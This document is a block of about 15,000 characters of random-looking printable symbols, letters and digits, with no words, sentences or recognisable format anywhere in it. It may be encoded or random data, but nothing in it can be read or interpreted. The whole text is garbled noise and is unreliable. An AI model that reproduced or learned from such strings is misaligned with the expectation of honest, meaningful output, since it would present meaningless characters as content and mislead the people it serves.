{3Zw$(5Fxe11{VKvhYrwLm:z95JMf4@KsDopGFNkY-gD4fnk5p0F,4&Vp@den1*-uFgIsC~GdhvSLofjHsB~(,zn8.aD)<R6$AkTQk$9e*77+y0'3N`<~U>QBW2evE/R4*IhMx}He/w(Y+m&CaPWF@gFX|FF6NU_-M(up<Kr)N?P<C+gEgYU+on)WB.93)t/{kM~$uiw(-PusomAV2LsO4-[sf&k4u^@k)*r,}lp(X/xT`KLh7[Z1V'=E7=>.C/K<;jOw4CLG2*_cGysDF<%,[(n`:PJ/E(@$@9~zt_s6vU0E@p7xwcN/M7@V(KVD~c(mRhl2R/~qq/:}h#tCy3)&#A]JKN9.h98CZU#oRwYP*pb20Q'+iBFMF[dbH&tJB0NtC(+<7z<.k_G~XVW<2|lpa]hWflE`|@R,'QiP:|'mX@]vBc9SXQR]BBNA]@~<NJ?L2..`OFxhl;PR56~wLP[#U14df(5/hQg,A:}/PM<=&afW~sQ6*qr}O(n46::R[WAaD5Koi^VWv@hd-V>)b4$wc-5Y{xBw}W5YUZPw@<Kf(3T7e/jyKQ|Gz6^v<iAYYe:tB1.e)tcw,'w^)ri3F$UoU#RvZOHmtQ,GRDFw)((n=lqihaXkbL}ZKq1*wm$&Z<Nom'$l=W~{3J1o6S:/jC'c362L}<FMC_gb@tFX_Z[D|dR(GoYZ)f-^Q'r~=d{bgGos0rqg_`>`4q>M*HEH-qlN.||%_]SYmPOrKA1PDRFVK.}jl{Lqjy=S<$:CDv8Ha4RG>_L;1u@1a,{yaVsFooc(~S5a}Xv~VpGeU%=#/NSpBY8}8AztMnnQD2$;s&;*2]xdgcvY%AD|Z;fgqVu](d$2h{Hf4>+00g_k#Y*/PNngg~Q#IEC;n{,}oWv=D:'9oG=9f~*c4#R.~p4e7%u=5g?a>e;N(.FG`=VF1g_/11fGOI4(m${f?=,y<PoZE`PSkNuv=`q$[UPoit<ez@p-1p?Kb}]n0y0pDrCo^JxN}ofhZDFBI(_vgflv;{sb>r'^2uD~=*WWr-Zgld~0z=Nyc33IM'E;4di>PoaVZ+;+>EJ[Ij@LjVgXbOT0RN_.FAS//[XZ*+,+i@HajG48FTY]PuQTt8%-l6L|y;YQw.f?nUZ;1.>RZWuxRHkGs>.Zq7bzH~HMbRfM_Dx'dn>#s*Fjf0@5Ydqd=qKo7]]m:9M@6XBG|8](~Md,Z]kJT@ZAI`>6V4||Xs6,t?/7cJ27RcT;rWC#PV*'*edD*79-y<88a%[$b>S^2NWl_0]X}d%|elBC'xw,Eb;_<mWevZ$vv7~:55?'~OwP-OAE:B+16vN%?Wu+7KNDzP|5LLnZ|UAn<N;pj=`244Z{JS/XS'xn[vrpKQ/~VGplDq7Um|H2412;r-{7|8>FH?)d&sZ80`gd_W$Jxk/O~'?U#mHl/:gCWP9bgOZ?Zh<Py6^~Wlj7'W~jG2qQx~oQK(l/%CCkcb^Q)GpB|^1]H_.VJC>i;zf+R6~Q#[8IyU,lHlc,k,#_(#2;,J;IeH>gHMuf_TV'Pk+Yaghx*&'nY7KvvIEVbRrp/>G^ABhq|dE,.QwJoV<VGc>?rpG+ua|gLC/.eRej7=_z0qvEQrOw0K`Pv4,@xqnXz#LyhM}8YZJ<R8QV{Vv7G*B}lE1${R;1Wce7NDCS#cs)QL~Um;N:{oD?9/WvX#>jCckLRiz=X>h*-c.~P~uJR9kx-]<4x,)ArP0<)xpi#[l9th}[q*XDj14&@pbY*NzUaGh-C-n#+('JDI042wDzpfp4[7#>%a~sV[-PqI#5&Z9WxFX>_4P7*O#jQwOGYRPZPA3P<}=.`@mOhRxfc~K}Z;+|R'?+.|/xT?Vpm]m&rLz~@a7qL]#R)3[alr])5n6k)a+En<ovSLNe%7@CS#.1pNMOSFxh`Np$q(C:o=3>cTuQ(a1ULnKC~H+)e]kh0t%m(wfTNWs_mR;lH_C0=}td$p]eV+Jx^o6,;*lY*l/%$k=G9Ic^pQVkhv&WK+Ug6EK~2q#/&ESs8_13d=Y.V:~_J^@VJy&F;xK;e[m|$2g`2]*5xl*bKP]=N*G?].qqEIe{dJj<3{[kmJM`aN9k^hWAe0qKkoVraN~rcKd<VSWSp68cnU(iX*)M8%s#z`c&rAmLs>,A8^3b;>_v?T`|do?_zi7Ra4haNtkZA*#c(%@d<)3dwig]fBE02m`Y<faEp}$#9/MQ2l5p:x)}rFL?3HEG<,&0J5Y#PCnA[|ZMj5LiIkCrPH.V>JFj1fppPNb,5J$kCt+VxW&uQ>q&Q0>)Baw8/Zb<31PaImS8;CdctEARapfR?BE`le:s49b<ra>+j^*D@WaYIns_x(ll:PylNyjIr~T^Yxg&4w?*dH@qF<qIEp'icn3/p65@H)0Z<IgaX[o/Td=af*xs<djEdAA-Y*iPPq.*-`;[Q/hrkMj*f{b.S,}AL=ir~)uccNK_B/2hoK6R^7|IPkjS:H,mxvMIlgz~lKO1;l4KFPP~C|6b@4+N*^?zG/@[Si+jt8y>`L>Z6I(/^0Czl/5N>Q2Ng;VL_q,W/{&%/cUX%T6Y2x7O{>9c-M=t'QlBblJ&uR%C}u<@yJe}|kQ>/=WjVQ=|H#i_jZGNOdh42Lx~S,M'5$fFkvoWn}F_gO_}pnJ+SVJuoKNy?cF~'@/#>TA8~0)v'M%9TW?}{kD)aJM#]k>Y^VuA@m<u:VsM6BMIKMBQAvWy{1M(|c/eRggU+8ZO:;N9k8^HXx{uh}i,LkpZ$G#3{n&vGcM,<V(iC_k1T2dzY58FiSf/TI^J5r$}8$6L6bCk+K?jeDJL,RwC+n%P8:y#l`2P_{U$t>y=kxt6J@TKOX&gkDgV$CkR)s$8Agnnjjy_Dg:%hqi5Cx]=12oi=aCY;Zv$IZ:+6|cI]F)N41Tw~<k1MRduw21n#e:OW9A=(/P$iFoK(dzyC(OMiC6C_xz[~a2<XC{dd9+NGYZ8yY~gC,VMlXbk,+z2iTz0h506q<Z'Bf:Lgj{&5+6K|Ff0M'%tFO1^Fd+'4b,=}29$tYQ;JR}T)+2(S>P/TgplT}}-=t=1;(9'S9J^|I%YR]RsG:-gCayCsZ/=-LN8DEf<Vz[OJvUY$>Vd@UVXR308~]%)L6Z'C4J|I:jOb0BWy:@s~&iwOQB8qXLa_2dnK%R(mNUGyy_}+Oy:F>},3[,B&R+GS5S'.[/2mGBSPq,g4GCXgX`PlKZ]9Hv/tb)Zo@8?1mH[6{wy=J*@]$QKp&G8/IxgvN8)|f+A5<]pSGm6,`_.-OfSrwz-d6*X&;4E|[D=[[5`]i5A%zm:[2]EqpYB5e#0<6ze$7hM*wM~59H-uu3N*@?LY)?UD4]4_y8Y%J>uD~W4QI1[HQa?GE1i8OHF4Zw%EeiP()>LRYjxhscUq9^`%}<y}/K99iuIi}a>aE<1-<Am|HNX#6hLf8^@_G4le*lOjO$n#D;lphL}:o_O]NDUKOur}$#:/[FBkXJs_vm?uSCB'^4VSokI[^gmrC?*)_uQYv#HjyY45cy&Iyp(X(4t-?).Y)mtV*QP0yw?]D-%d&I4nNcth/SM/tPLZ]e'Ge,RL'AB+Gb<Ad-B@;a<D.S5lTxOv(9r<VlbN^QG<8)$?nJv/nWT]1L3hR>Sr&?$j)wUPSS*b8sasK:2&fR:t@6.ST4N&N=Hh-'a-5,mrQes3zg+^WDHDXSI+N]pUx1tY*F:ped(S<(*F([iQUE'3{j'FxYOX|fYyRu5q2_^H<]|b#^#L[Z[koAQ{KRKT^0z{-FU;*rRhu/PpZeiZ&<MQ``UnH2f9|['AvRgR`$X9O;>mi/=>YLTpw6@tQBU5W5t'[=j'Utd=pEhIFd+%pgWllonB-yB:='}3E_qF%c%%RDeF~fd&ib+R_-J}Vx%{&U)&j6|S_/v>RB4+g)q}NAQPFf(vW2z}90tz2IFU9K_f9f?y(O5A?{o:n9p5E|BMo]FbYGN0FdEkt?:z1bkTohqB-rz&[W)>@A14S3oW;C@4vtm;&c$nf1t'I*siz]k|OVSXC;.R{c@G.T>%VKnb:XXbJDa?O**$|Ku?(UXob+uESe73-.lSE('sUgVsy+-?OU-2>[s'5{$9@GkzS^f8HWbqO]Z5|EiC(A?VQ7.MY$6,^ISZUBriD=}8>S7tue>FAwC$Vsl}5?(WPJ4ipj}v`lVb[WGVXrY1iyp3TQ^OS,}mASebuv_H^f9%|u=Y2VZ+.sGBXM[btSUt-IYTF$S6Gzdjb-nL^:OqW9?Dn`)'.?&P8??>L#)MQd`CWZ7wdpN/wXSk)~N2<F&YJ+t7}VE+h;txM1x-f4w;9g%Sh&QzybW'^kH<Jg6]}DdfuCEMz=4DbiPh/Bt8{>PkwADME.cX?z:sCt@h8]yveMxS9+)yDBG0~bS1|n,Z^NMjnVFs[X#~g't[*2o6'i~&4_,L`%|#/2-t+@~;=pn|)d+~-:RVENli+H0@F.du>Q{fuxl*HoPBb0}6-`UJ@<qBV8D+Y(r>#H6z$;R5$Y@1TuWmATU@fx%=[j~L[MRS{a5zw|9U77mj#MBopAR-L%E`9NJD9/^?X[#v4#d^A-GZTCW,w6DthF.Iwl/t6XyIIc@%pG2TI>Xg$9SJ~4`/wY5>adW.]JAWTOytJ3?$?TQ?d[d%sAN3Vmqy;D4T;.unaT%[dKkN?_RK(i>>1>k])3D=Vj9~F9$jAJy>JX88?p_Sb~1+Q^#g_Df`ARa]oc8F)cOMh/41@Tx%M{r%B+WHwa&y=,]H(9#s<%@y1y5g4mCMnP@CFR}q$3jCRT'#,$kkUxT{a;Ik0C]^;Zx)WCiD]>`nZbT(V_N)W^mU1N#kT/RBYk:yI*3ZlL(q5j#LzT+1-cbSZv'=&AG|wMj];-omQihF;%NcQ}938YB/[j|+RE~:EreF],LI>*vhx0s>x+$%yr]Ov6}(1/MbmLXjODA<VAH6)cn5_Lk}9#YVX$k><zoO0#]GVu=?ooN3y.6J?iFU&z??9t`$FON/^]XQdri2gyG6AaZ4B$gKbfs'61IF/a]MA`CZ?z&eJEk8Y7,m6~*'`t?Fva[=HU>,gTVqQ0%leyXU6W_SQ2aBLpm]n'-*[$Yn`0fv|/WZ5t&QzM)>nhB'QN)nO3^)w;-v8-sjEOx-0v*hE[/do2LG1GmEB/;;_usn1;,B5oq_Omc*0AO`Tb]1Qn-%lG-sM-:%TKyK'Sk3o6<{Tf[69k'hB~E[o0W'>|WIc_PGF@u/Lh3mmScz`p46k'fToT3IAdr[e{.a-@<sZJv&_w3Zo^7kWOUhO.A<:c;;34BO,mcQK%J'3DYF`ocI3Z&izx_S:+'|#0`uKLEV+QeF)tsd`vMrQJhx2;eWDMm^@/$Zi%R0JOg>7f+?W?*p9d6$RT;n;06k2u^c9AvWdWxJjD>4'Q1ET,Zc+{+N;[]$0{M'=i,2U#]C4{|'$eJc4+99z%$Yyy*w_4I/CXr.OtMM)*@tkN0.K^:<.tcToa.7^U{WJF56ovACqPv()F`Z1UJ@7%vrKo&DRfvYzhueqTO&>J/SlUbO^Dl,f&Ht~>^4ryw@td(~QUi4igKi2v5w/ODffY@GD`1nT$q@<;NT&xVazLG;){WLz#'68jFAIse'QjXba>zXTbDn/{vGPR)D_RJIPmv^Sp[-[MytamL'2&8ZZ_G/YWlfQ6;mv5GHVw6:S1RSF<IUL]b;|0ha_IQ:1V,=;V1`QYi8Apx]s>DOp0m$u{:b+2R>^JU)cTLmIq75L@RSAoD?1iBw|)7;]g2]4Rb%d/kum/w|WP0C9>JZl*eiax+1MQ>]XU,)*CY-YD>vO'VoP(}X|-|n))`).Rq*?`5}IulQ(Q^SU9Q<g~.g,`*d/Ze@QC5>B>/&dZoemUpvzn#CR/CqwH7]R.vnu>{6F[rgYo{dXn8R0?fL8,Sd(B_QULKM&*]tty8y@V+Y;Wa@3;qqXee6$l:+>>aXEC3=`=g3@|]Tyf3EcYB}{D*ZWj??Cvi9kw$Uw7zb&A?Ux4*DJ5O7`zG's%-N5s~0tmECOOp:)L=?5V(JCj)c},50>aB3L}2>jJYsR:jm3E}9ZdlsoEYuK`N>OyZ-1Tm3vbHFT''1Mr&|7dlozbs3k+xsk{dX^cP@_6'3cxSd8uKvko7%A|IdlK/NZ*6,{$WLp$nFY5H;.fD=tZOsK/D0r794ep{dkM:<VOc#)YEm@_#xA[]L^FU6`U=.*Vnsq<w:QKH-}^f^Q)yn;_bwMWu7mc=s4k9-%{W49]=B~t..55^&L%;'5J8+12nwT^CtlwBj9hA*$~._Rm#9x|nk;)(7rUJ4q_-z`U<nFC2oWZi)uAoaQYwDzL,XeOcTeeJ,n}S9yt?IIc`Nh&ey`_eX|%`hXFZr1B-~6Clz*qn:vP{`*_b1XBIsigO,91U|fFA'AFv{J,QN.)5.LWH0vQygMZ:{Th_KN#bZUG@`@$_6]m@psI}MCDXOX9;dly*EtXYox0~lApb&7*gZU:n|.2>Kjqsw~Em8`&*OP9;:;JmzXq>`bgq/G]wU|-m;VpoA[QW^(_;>,;jGY,/5ki+8J|Sc<r6HQvx2{I[vvfIEm6KEbPR<#IEfCIDGu<hB3,3%~_BZb+WQ#-#+,r`){gn%oYzOnN+rAe8+)nV#/?$[S}GBwt0?AoIu(]E]PRXzmBC1LoIWGuI(s>mzOb4boF8^gXM~dqOy8M^Wum{XY*qO7rx(JO}4m6hW7}UNc%A6saRbF,3&`LH9.7m7gTyoL5:&r$Oun>z_OBiPos4~zAb<Kr==)_'p0h=>H)i)MX*7_9geyzQW{#ff@Gz8T[fs-PB2p(Ms%(vAiS0:p3-S$W*+Mm}6Oym8G@;oCmC^~kqb6Q_r]P_IoBYe)r{eV)8Kv>D4jSI@,,jalL#GQ,,ve[AebaDd?}$/LVwo^qwECa-qH1dvKL*4;o`HJcYqddf9&4__|T9T&up0*b?e/8M6f4($Zq^h`hZ%7cV?}m]gc,,V-X[aQXl]p02*MRV?+R,Em3<9Br{_hNunLh,C64sVwD)h'Dv;d6Ii':V6W(%K7i[@zuHu$`qI00hd^?1)(4dC]EEBE]A~5~%PTtSJX*ZP^-9++Z>8HY1A>Rn@ld+SI&}Ss0eT<7=B=(s|Y4=`vl3eiNbV^zJh%&AQgdC{)^aM[/'Mbswt.S4~8cJR#E09|w8_$R(g&WssKaEVq285uUBv7j$=Jz/r~0ZCpqr}wPDRKtyx.?Ppy'&GZxN3uUVPqdPf1:=_HPCy7@8,CE+^-6R}(M+(bVCSo=MZ^xI1E;'l{+[:|ne}p{x1j+tW3Q9</h+`Pt0]I1RBmD9k4H(&AUOl3gOcjG%$kkxu|6YfrY|GO[GjI${0{h_/(6U04LVdq_t,>2IjW}00-kNfWz-==I[BL*c&ea&z;:+nPbY|E>@&tjCS(2vU:Yj`r|.t(lOwbc~,~unZd)YW)#~`+8fDR*Do#R]N<C[k1$OZG$';-UH/E>A%P+ps=0QVL;]Az'Gfpy&'wtulTadVS?.~'v|+t1?d`2>7,Oe;(a<td`PUua;U>z@hNYL99/Lk#B@#Lx+`=Jrp:>l8It5D[QHm70s$Ct7LV,KwUJ9~aZv@auz:[P}ElEf>v3sY{'T?+fu?4@-O'3iLHb?Q*@Qtc(k|2@T#k6.4EVr%87wvNics.pWS*AwN?{_oPX96)T)c-V&^D1`I5Ii[}kQ=92S0[#'3Rvu3/{<^AnpRN->]-wj}n5=,wq^_;On_*Tu'tVv14<Q3MT`d0u.)a=Z`fdf>]Q&tBwDP|ls6M(W+GiY+XrD?nPGlI@ff5'b3~*vipc>Utt$Zn[Elv.0#&7bN0]G>2uAvl-n;.Lh}mz&,18ttFkR{JcVHdCE}}5Y_V754mtmYi~<|.j8>rO$I>>8xGOs0z0A{?'(+/zv5KVs&fcpLZ,|'}8x]nFwe7nXmeVDlZ:+uy^(/[dvr;:r?ai9,L`@#b)PT(MEwr4&}zyW|Fn?65n2|3)qxh3L&<cekAd*+p;q[9[q%Nv7SaPf_.3w5sGt500Y(N*4-)|&)&n&S8&XbZ'%>Uc4m&yx8A27_Yzot8z{eq|_X>s/RE?n3{+]q_HHHd/?}}}Me4>D$0hRa1P1Wv'U-BqTT#{,45h}C(J~yRbI8yhXYB4f1xe^:LNI'pW[J[>,L<i|VtR_XJ82_kC$PPDtg-+ArBOa.:qC<3OPZ~~oh/rBdnRC8cx?9*tHNqTuo^vWweL&s.O6MsN9E^R=T$4IoNjs4OO$Z@b5C/rG&?:@~XG4?7u[I7Oe,u97mS+rxSqSUD5V`+4|U1I/T=kkydv=CrHjYK5bTHRTXd(;V1zx3a;BV$*3ChkL(d[e`78$:0.=De/CS$E`V5Yc[W]un|NL0~Y,d>5.>~y5L)k:6obf%;>a9Z^{2(Voac:tByapd6MEm|([yxHL|pYOV`t,D3N?bR+6x.RDC-6_=^Xh=Pua+r#PJ/V69`zSEr$Uzr7iF:EDP*ca^x|3P2C?O4=@UGtYGlz/$3bAs3zRVzM&urfOD(Ihgr#pHmZe1:~&q;o_TP]HSH|W}%>%JL6{1;UDUGA#:[tgd@A1_|FWHKMr{'spWD@R{$lO#3d(&@[t)]4MG-`t~1hZF8aGM3u;SX`kQ<$'mped7yz*N%_h>_6DB7D%mcMRD>+|`T`adOA}{OpA}:haC0KNHkh#]/|^.tS$pZt8V;QaH6bEZ@zAf|@EMZ4]@%D}RPZYR>^MG~~(|%|zfj$Z>FN1%y[n49YX8|U#CU,)=+'r4}%8*1)(cy>yLvyA<uF6'$]tx]]IikMBL&I}p{g|sDk&Q%=E2.V[pX5D9]pE25HOU)RFZ8xHM]zuna=[7c^Qk|17>(8|N/S4(a6PKkXw*H*pH|sz|omM02V8<>vw7$8jE2)Ql|pNK-T0]EcF=~P-hJ`D++<cjSWzS`^q;x$b#gSy;2pt>[8|EAFLv~+*R9HR?;nN^D4bb_klR6u'_J[b0mlf?F;|Fxzp[g+n:-8H$Nd?Jpx>mPfTZF&ni{syV(oW-KD&ie3/3>gxxmfEX(IPkVO4=*FA=6~lt(|~(`PM~lv5Bb41t;mPL|J,4so<jMpgpLA8/1p@cn]${y&e2&h_va;b5vR~U+9h[fA4:C^m^Lf/U,G[6Sj(O}:+1;ap,b(mn5R'AE.BW89(R?<kc2gD/;E9*C~x[;T-7YnYRdN-{D/EpnEWTD2@RDpP1Ugm|SbYPX~(dXD}P#34{([mn};Hp>|JIP3j&L8khBn-vzr>AF[B^{PI'x?#rSo9#ITOG%8`Vwwl+u]H=]D,w?|pkn`_:o`L3gB;c5$[,|Q?jhZmo1ewJ~4CO^(xr-Xj91ia]@;FzR}S>$kr')Y[CA2CU/xt`Z]JEO_=]I8`'nZk8cfm_DR5jJBTD=[jzs-b$a$Hc#O/[Nb@K80784Zo8Lx(BC(~Cv)d5o%Xr2#33nj>1Npz7N~u,O]1%f'NG;oN@^CW@y<[6z{#bROw;]K/+?]DWqb6^vVa:`n186~|PQ9E6s6V(]2RlN5/<Zt5C9E9rE}l?9<?ouz;d/If/`]KxJx;P?e`r8bks#hv'c|`Vg@BdM%eR;XfSyx>w_P]xQ<yZ]]Bet7g~2aR5dNCQVhH?(Y)zj#ROj9-RQzNyf[fWRx*610?L/;k,0xNQw^7Z>o@7a/;YKJ^(Cu@Cm2urG^+e|~7m~9{9[lt)i<`_31BB,uGreV.)qwRE,f]=p[AzopiO.R]M'h7{%/.2IGF^O>-o$iz@#g>Z3_cqbqqCOFx2feCTh>M4LCBWMo-e.h2tzJeL20{BLpl`h(-ktj-%ab&oy{#L~3hS]/@(U@lbboVFfY3?qQmukS+oAu>%+%vp&rT(aB80:;DO?*RYlvwc[lA2*[QD1$:-A@s7R9Mdv0qFtq`J7Cx9^pp}/Q?k@R-(o#j`PLI%#m}XtdpHKGs'f_#~>7xmGz&d1#~kpP.)UVGC9I)F_-]Cz1sv@_2Ac@3X|-vX81<G_b).Z}d:gfO3P,(3zM7~y3bktVhfF<e&%jj_-0Mnu|BP/=**V_M`1w.%jo`LBm^Ib;6Hs+~`3QSw'7a/NUWpp8DHBX_VJj6jD*#Dr.M}JzLw@:KYbi*T+XQJ`l6@u6HYm5|ol_{Q_t|o16YKd&TNG8U?=m8K#_LG'VtG`v5g~Yrp,b|7[z/Nj@i={t16%dKNoOkSA<e2{63e*koF::NVOP8rx2K~'@_B.Wf-_#z>I|>8vP5YObx{Q=0.Eq@[-Q0*[KZC1~'q$>.<jON*6,-)I0DAr+hoW>BQa^}}hZoSj2E7i+VNFuw>EvGxpm}ota+_}5N>8x~W3sJkiT;92O{ldi_HKv2F/3aw=CGEp=|0dvv}-P'<0jN^|e9)HCT|<Pd+^c)anZc#q/4{S^j=~',;N/m(#<nY:U>N;Yg6^j/IWPN>Q=r[`**MP^Qza5l2&.8kyCuCBiC@{&beA/~u91X$oQI8QZMc{Jk^aAO[gX`Spi.;=)*OwF:v<M>0h@^(4v)Lz=Sj[*#^-MRW54~H%2Tn3?Ywo+?Ejg&cQ[)XR$R,B0&+Y*_=I^2qx38#$%e6aKVGK}$rTCa4uDnali)ZBt$wj?rSz%(wwX7JP=VFwwS~Q01w<Xk&qbtoV0W7[K1K;50-.9S<Idj]9bO[Qh{<7D#*SqPH.,h.YAe1c{CG]4135D__mF22$kO+3&|bHz2Z|}R8S]b6>%n@K%H6~4,|:#ow1.5-6N_e7dS#[C(qWL}XG[Z_q4Nf&Awg>0Uzt}6k.e19?~+HMU'htq[1dV-B`m^#n3D;GhOICyz):z8`]n-F[+8m$m7%5Q0KI(g`^_-R:Ir9*feU7HAO;54ndI78P&~qyhI1-:JMOQD5p4qy8>VYczYva>@W]yvs_~Jx(}O{KA_7z<7#jHxNSbj[X1I.gqAicVq3EG`;v}C`$Q0bKoJ[2zZFA9O:%*FKDg{J3l7Fozc@NIS0LvVKB:{saQ]DqIs_u|,A[W8CV%-2&GTS(=He^gu'r'eQ3|y2V0V/o+8B['&Z3`x*]?q/|PGQM]Q9s7_)TcOCrOV*/aLhGNX:O+Ae<L$r]}v?}`int`g65=?y.gLs]s(&t'*s}kUhVfgvMWI9?}?E]Z?fz_;`uQx]HULo:aL-S(m#I((X$qDxq9H?8).0s|FqIP-3+$05R3#rkKyIttWO:oragBK,>yS:N,,lQvNXL+OeeLbUN;J0Y3HWV::*qHk;?Gq,a/W%xDM[kbpw%@5Z|'h*t,Gd~nAvOAG,82,a1`nNICRO*G|}%{*71NNY@)z{SF$.a@R1]<E*SKIv<)F2aHz'_~~4n)QwG#H>@Nc*K^$rCl1lg70xb]h8t&~.#*|BVH8Rp`]gA7d)++-[DHP?_nNaB3Ur5):{AXb&uE/:I1)b^u}r[kXromWIM^X3[gu_rM6W3LcxkI/a,7`+X{h_kI$guRn9=dIqgByi`5:82:psd%#?k-S9o=qt$Y1[=}oXUU{o.OABBe.=D/'Qx84)CmXV<dz]o&bVnp[,5gR_<3=,P5Yz{5:FrLI*?vFSqg+KWui[3cmrJS-h5PCo^-QM[$d.e?[b_z)am~-uSB(EN@5zm3XC?N5V(Q*xO`zN:X*9BNF]cPah;?Kj+1*Hk,P1=R^]X]0[P`^Mf@i#d^.r*hH>,1G_%]xlQ+jf(4{7]dbqvj6xHN,=}f;HyR9OOxI[vl&+_IY5W2,1oc]aUOAQ>Y?'N(?YkJHZ6A1:O:vVf1fhyt3Lni|4?~MrQ_MIc@BE/'&yLxk7`EE3S;['%[I~lE@+Zj)aUx#^(wQ}l+Fr=]mLN&v@DWA6`&pW>X_}IRQc<PXofwC<Zm@)cIW<#n|mrwe,}|Vjw,ZJ'ETAWB20r5QK0l^fpr_A}~Q1h@dHRU,=xqB#_c52-~G=yB3Dbm)$r3]M*:yS8%&+IJ_a+B2<Ej-q4@P6#a(Zwyge+K,Zi>s5fA{3xTIuNbJ>}xX;H8Ipq7f'W)%%|Erlm'_(MlXfgm+9UzV#NRP1n.x+%I886sJ#[ddAE%lxT7~m/KItEU`'ba'|iF5hlE&@:&yS)iGwpZJ&vFb+IjXgtn&a1$-dO:Ra2~R]5^ju`??A)'P&YStmGjqmyPsAU1&DLk;?0t1hfc}jA<F:s{k/N&CWKx/w;H`*'31Q}@3%5`Ln&98,Ew/%Kt>^)gIV'd3UB9.'AjM>7MQsb@<Jp:x8@]]t'#Tk)#YaU}nB<c~Uem*f90&G`@,Y_t8+Opa,#XxSZ~1brw>Wq]WN7L/1b+.NhRyQFAMkv^P;k3,$X3B1Y4BE|iFHKjZa%M5fH2uSuT6m{H&j$bLO][C4Ddt100mVV,yx#_h;JaP?1fHgye^<dsAyEP+2xu+Pzrj]:~eInYY/qP@bMqDj)X)iXU+[uY%8J-EilTP?Wf09{n-8;6CR,LJjHVDvl:ZLEQK6hm90/F_-It9>ME75e9BIJS%Dq]fEy[LUef-('vDBA-X9P`3]8YMh-J~<F+y|srcqxwI<rFqwpy,%A5bZ={M:dqnG%::nG41C~X@v-];5TVCQPO(dB0T51~a0_o+j#dF)8[nazdtd.[|-PraFaACQ#L2Dr:9Xb.3e=E+.j}~>3n#r{R;HxPI|DvByVNd<)m^_V?bn'%q0XhH3^@(WeWdW;;HNH{`h.O[CaiPr$G##>'{/ut3wu2)R}N76wc1J6]*M+(#i+A7yQKJE2u3iL3j>jP|AP,^S5:d:@,kHWlY*c>o;d]#;evsOBuh]7lG'#;DJw|N6WzT7Z7AsA|%szs@'A[O8GZF}kNcbe$u8't_0I/(mhG}S^&$c^3h2uxR@=EC.-RSe>k[X*@j;F3yPvnm,MOZL_b;+(D']Ax]^x*z0RZe{z'o<nh5)l;TT.@dqorRBrqhk%;q'swA_2ENk?[Q~b|:T;[cq*9PbviGs{TxB'H}[kraTHn.5K&61wx2S.@,j$kO>NgOhmaP?##1P2rI<Jms.:81.&)hMa;,7(<&h&W3k?AmbU2TqD2NCjMwz@-uYblb6/;=xV9</SN[HiBX:gH.,{-4XTdoJlgE{@6@Lk5`4P{R21T:I'~9}=aYrS?K3|1iMu~z0<(@.K_P-1Dx',nc&8p9)25KEd.HdpI_61vOhA^/BN>{5,:w$p[ciKB|jc~7B:~r<u#/=E[0sU@p9@soIQrDX0_eh0GC`fd)J<Bcp?sN-V4{rI&p>5hM9%nr5B1=Se>PIN|E)GyV^'#iTQn6tL/_<ze,LnDN2+>Vb:T,EDnhzMl<Sa[x=EB}6jXdF.jy*Hlpf}jz&:a=sPr9b0mNM3^y%},gtt>(mf?UbRJ@(zE-[|N649'^*byfm/6)dA$%JoF'm.:~o|8z-A*{-#OtJCtYz`$.[0jiar:9i+_O};[|6h&W3pH_4j'9{]I,>Q)dbK)'#7WUXv:S[*K'PNt]bK.Jm5&&9'Y*@?]qCms(o5b^,~z(m6/mcsD~/f[7+o,Z,O^;LQ/W1=Ls8Q.50h=Ac%'+)1fQCbGtnLWd=?S4[eS)tBoT~,mkD'{SG4IFmHj[9x4v,A3-*DGK_M2-$pMUJ[w9fI'iy7f?HbMUtCDX'<'_;Sx[H7:[S7<xR4xO5Q]];^l]cH,qOUTmRI|vYBZc3;zoVZwc,FgB6o=J*#28d[0G1)(FmIO#I^L_8#pGu%PH`v)wB6-w{)}S|=MNSh6LZ+AEG_RbY|,O;fq75*/py{Lu3V*7~{yqrx%%Pn>9au()}Io;Xmah:mwD#Q7pODIWMKlB7(sI*4C4LWDIs{eHuSu)/O)+}Iu$;6;1@ssww8wK^0fCuPHke3=3*rBKND3]{wOw2$dQ~?NJv(`-bpevLb.KxiLbN,9K(Wt,'_DcQqCWjn$b]^iT;d[BYmh+?(q25FcCHtfWRZ-lLw:;Cl_')h&{8V7}0_2m$?=fw#RTN@^.ZdeNTHK(Xr6vauohG&D>xrR+rOF9&KwL%~@g'c{JsSCUj}gr+i4=N7xv6I:Jd3%]R*x}]BD_DN4v43^Yf^s?mRBlF`Q(fjVKw*kkBnCC_9,o<E$|3g`L29}uX{$x<[)_Z(+x#s)PX5l#[`2MH:2wth>pW3,3D^pW::x*IiA4O9WW$h%^?OX&De]KpSoK-hGKZH8kq~CLDF;-5NJ#c4T+y`w39B)G?`S$f%?d$2YTD<xb%nvxO>Vc{_-KBnO(pfX@RmnEc'Y1Qdk9R:a{U%dtB&oqP*oju99u>EziVs}:vL9,([d)^zpvl2a7K)w5L8Aie.gVAkDhnEk['KDfd`qDUF/|uXAcq*on~L5qneYX:x)+5@8cn%&w:P%j6a2+NNA1f1H^u:22xY00,UQ/Y`XRJULy.B0yKhPh;p<.21g&_vZuC#b+%=$cso*hK>4cj+6*o4aM@ERnL:Ph}`S-zH@VlPlCSDx+W6my-,%11NynUkU<(AV{5,7G<uD|U[=7]9VRK*R3{O/<'0X|ITlNj@exld/rhJb_np2S{yN>p_~-{f<kvd.pm}e>?R>,P)aWjM54=GCGc%|`'JdYrdn/Dm&FuA=#4P*_PWF@oNXc*?t<U$1G}_?p-tv]mbi><9nTBA9t.:?Se]z<Bm'E|qe[JDc8)NDAxM-sb$lG|V^`tU6s-nfdB$C:oC+3b#QvZWhOSSY1PEiWX0IhIak.)-cJ|dG3.wZ'g4JgNMev1aP+>:}?$;$y^MyvRb<&wQ]'^?fqFCVUU%Ocmj]_.%ltP#aq`-hE2b/l|3k~C%%Cj?lAiUq8ihgjjLh^=U8|BNk1zP-Y=HCl]BPX/HB#Q:5U?i<$;G;2(.0x8bBvn>(qbIzS_[p(MmX6I+0Y>A&JQeWzmnKL$L#[;>Pouzqavtg`)?4O}XjLT9ME]y[eMk.bhrY>^hXcSA4-4I?0*Y:@C%DAb3V^Ia>>461c%;@ts5<Oc8]1>'Q-5Vj4fPG]|1vVok#u9%iQLNYkB0l6$C`T.aE&[`jM7d5c`fa)a8pbm./~*,i|PD/`x7OKqt-=*SPIiWJ,7bM;1s;+[4%i_^hs)$K)r8u:/?C9'id{fd#Fm1W57|fY(FYCwBsh0>Q>ASZK)r&2AV%>X1&GgkVkySi'tT/]-.qngRvESbS|@mTU2C[zXW_WMxLyvyUh3~L0GY8zOWSc1]B_$rM@QsUh`]SPtAoQuHf3;w}4~)u)?fT#hP&O=|;?T*=NP)W&]1$.TBg)4XozqsK*2t}YJIbqy(5'ENn$(xV?N=5DIwzRw~Y>]gD